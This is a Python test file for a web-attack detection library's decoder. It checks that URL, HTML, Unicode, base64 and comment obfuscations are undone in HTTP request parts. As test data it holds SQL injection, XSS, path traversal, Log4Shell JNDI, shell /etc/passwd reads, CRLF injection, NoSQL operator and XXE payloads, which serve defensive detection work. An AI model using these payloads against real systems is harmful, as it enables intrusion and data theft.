import base64
import gzip
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from secmlops.web_attacks.decoding import (
    MAX_DEPTH,
    MAX_PARTS,
    Part,
    canonical,
    decode,
    parts,
    readings,
)
from secmlops.web_attacks.request import HttpRequest


def _labels(request: HttpRequest) -> dict[str, str]:
    return {part.label: part.text for part in parts(request)}


def _post(body: bytes, content_type: str) -> HttpRequest:
    return HttpRequest("POST", "/", headers=(("Content-Type", content_type),), body=body)


@pytest.mark.parametrize(
    ("wire", "meaning"),
    [
        ("%27%20or%201%3D1", "' or 1=1"),
        ("%2527%2520or", "' or"),
        ("1+union+select", "1 union select"),
        ("%u0027", "'"),
        ("&#x27;&lt;b&gt;", "'<b>"),
        (r"\u003cscript\x3e", "<script>"),
        ("%c0%ae%c0%ae%c0%af", "../"),
        ("\xef\xbc\x87 or", "' or"),
        ("se\0lect", "select"),
        ("%E4%BD%A0", "你"),
        (base64.b64encode(b"<script>alert(1)</script>").decode(), "<script>alert(1)</script>"),
        ("+49 170 1234", "+49 170 1234"),
        ("100%", "100%"),
        ("%zz%4", "%zz%4"),
        ("internationalisation", "internationalisation"),
    ],
)
def test_decode_undoes_each_layer(wire, meaning):
    assert decode(wire) == meaning


@pytest.mark.parametrize(
    ("text", "simple"),
    [
        ("un/**/ion/*!50000select*/1", "un ion select 1"),
        ("(SELECT (select 27)) or", " 27 or"),
        ("CHAR(97,98)", "'ab'"),
        ("0x61646d696e", "'admin'"),
        ("0xc47", "0xc47"),
        ("c''at${IFS}/etc/pa\\sswd", "cat /etc/passwd"),
        ("{cat,/etc/passwd}", "cat /etc/passwd"),
        ("${${lower:j}${::-n}di:ldap://x/a}", "${jndi:ldap://x/a}"),
        ("/a/././/../b", "/a/../b"),
        ("https://a//b", "https://a//b"),
        ("/* never closed", "/* never closed"),
        ("en\r\nSet-Cookie: a=b", "en\r crlf Set-Cookie: a=b"),
        ("a\r\n\r\nHTTP/1.1 200 OK", "a\r\n\r crlf HTTP/1.1 200 OK"),
        ("a\u560d\u560alocation: /", "a\u560d crlf location: /"),
        ("Dear Ann,\r\nlocation and time: noon", "Dear Ann,\r\nlocation and time: noon"),
    ],
)
def test_canonical_undoes_each_disguise(text, simple):
    assert canonical(text) == simple


def test_readings_of_plain_text_is_one():
    assert readings("hello world") == ("hello world",)


def test_every_place_of_a_request_is_named():
    request = HttpRequest(
        "POST",
        "/shop/a?q=1%27&tag=x&tag=y",
        headers=(
            ("Host", "shop.example"),
            ("User-Agent", "curl/8"),
            ("Cookie", "id=7; theme=dark"),
            ("Content-Type", "application/json"),
            ("Content-Length", "12"),
        ),
        body=json.dumps({"user": {"name": "O'Neil", "age": 3, "tags": ["a"]}}).encode(),
        host="shop.example",
    )
    labels = _labels(request)
    assert labels == {
        "path": "/shop/a",
        "query:q": "1%27",
        "query:tag": "x,y",
        "body:user.name": "O'Neil",
        "body:user.tags[0]": "a",
        "header:User-Agent": "curl/8",
        "header:Content-Type": "application/json",
        "cookie:id": "7",
        "cookie:theme": "dark",
    }


def test_what_names_the_site_or_the_moment_never_appears():
    request = HttpRequest(
        "GET",
        "http://shop.example/a",
        headers=(
            ("Host", "shop.example"),
            ("Referer", "https://shop.example/b?q=1"),
            ("Origin", "https://shop.example"),
            ("Date", "Tue, 01 Sep 2026 10:00:00 GMT"),
            ("If-Modified-Since", "Tue, 01 Sep 2026 10:00:00 GMT"),
        ),
        host="shop.example",
    )
    assert _labels(request) == {"path": "/a", "header:Referer": "/b?q=1"}


def test_header_order_changes_no_part():
    headers = (("A", "1"), ("B", "2"))
    assert set(parts(HttpRequest("GET", "/", headers=headers))) == set(
        parts(HttpRequest("GET", "/", headers=headers[::-1]))
    )


@pytest.mark.parametrize("name", ["Connection", "If-None-Match", "Date", "Host"])
def test_an_attack_in_an_unread_header_is_read(name):
    request = HttpRequest("GET", "/", headers=((name, "${jndi:ldap://x/a}"),))
    assert f"header:{name}" in _labels(request)


def test_operators_in_names_stay_with_their_value():
    assert _labels(HttpRequest("GET", "/?user[$ne]=1"))["query:user[$ne]"] == "user[$ne]=1"
    nested = _labels(_post(b'{"user": {"$ne": null}}', "application/json"))
    assert nested["body:user.$ne"] == "$ne: null"


def test_multipart_gives_file_names_and_fields():
    body = (
        b'--XX\r\nContent-Disposition: form-data; name="note"\r\n\r\nhello\r\n'
        b'--XX\r\nContent-Disposition: form-data; name="f"; filename="../../etc/passwd"\r\n\r\nabc\r\n--XX--\r\n'
    )
    labels = _labels(_post(body, "multipart/form-data; boundary=XX"))
    assert labels["body:note"] == "hello"
    assert labels["body:f.filename"] == "../../etc/passwd"


def test_compressed_and_xml_bodies_are_read():
    xml = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    assert _labels(_post(xml, "text/xml"))["body"] == xml.decode()
    request = HttpRequest("POST", "/", headers=(("Content-Encoding", "gzip"),), body=gzip.compress(b"q=%27or"))
    assert _labels(request)["body:q"] == "%27or"


def test_the_number_of_parts_is_bounded_and_the_last_one_is_read():
    many = "&".join(f"p{i}={i}" for i in range(4 * MAX_PARTS)) + "&last=<script>"
    found = parts(HttpRequest("GET", "/?" + many))
    assert len(found) == MAX_PARTS + 1
    assert any("<script>" in part.text for part in found)


def test_deep_json_is_bounded():
    deep = b'{"a":' * 200 + b'"<script>"' + b"}" * 200
    found = parts(_post(deep, "application/json"))
    assert any("<script>" in part.text for part in found)
    assert all(part.name.count(".") <= MAX_DEPTH for part in found)
    hopeless = b'{"a":' * 100_000
    assert parts(_post(hopeless, "application/json"))


@given(st.text(st.characters(max_codepoint=255), max_size=200))
def test_readings_never_fail_and_are_pure(text):
    assert readings(text) == readings(text)
    assert all(isinstance(reading, str) for reading in readings(text))


@given(st.text("%0123456789abcdefu&#x;\\+'/*(){}$ ,selectchar!-=", max_size=120))
def test_hostile_mixtures_of_encodings_never_fail(text):
    assert len("".join(readings(text))) <= 20 * len(text) + 20


@given(
    uri=st.text(st.characters(max_codepoint=255), max_size=80),
    body=st.binary(max_size=200),
    headers=st.lists(st.tuples(st.text("abcCookie-ntetyp", max_size=12), st.text(max_size=40)), max_size=4),
    kind=st.sampled_from(["", "application/json", "multipart/form-data; boundary=x", "text/xml", "gzip"]),
)
def test_parts_of_anything(uri, body, headers, kind):
    headers = [(n, v.encode().decode("latin-1")) for n, v in headers]
    request = HttpRequest("GET", uri, headers=(*headers, ("Content-Type", kind), ("Content-Encoding", kind)), body=body)
    found = parts(request)
    assert found[0].location == "path"
    assert all(isinstance(part, Part) for part in found)
    assert found == parts(request)
